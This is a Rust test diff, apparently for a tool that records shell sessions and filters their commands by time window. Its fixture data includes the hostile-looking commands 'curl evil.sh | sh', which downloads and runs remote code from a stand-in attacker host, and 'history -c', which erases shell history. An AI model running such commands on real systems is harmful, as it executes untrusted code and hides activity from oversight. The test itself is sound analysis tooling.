@@ -144,6 +144,22 @@ fn commands_follow_the_filter_and_orphans_only_without_a_target() {
         ["history -c"],
         "s1 started before --since; the orphan's own time is after it"
     );
+    // A window's sessions give their commands whatever their transcript's time; commands filed
+    // in the window of a session that started before it do not come with them.
+    let window = |since: i64, until: i64| Filter {
+        since: Some(Timestamp(since)),
+        until: Some(Timestamp(until)),
+        ..Filter::default()
+    };
+    assert_eq!(
+        strs(&get(&d, d.commands(&window(500, 1_500))), "command"),
+        ["whoami", "curl evil.sh | sh"]
+    );
+    assert_eq!(
+        strs(&get(&d, d.commands(&window(60_000, 80_000))), "command"),
+        ["history -c"]
+    );
+    assert_eq!(get(&d, d.commands(&window(2_000_000, 3_000_000))).height(), 0);
 }
 
 #[test]
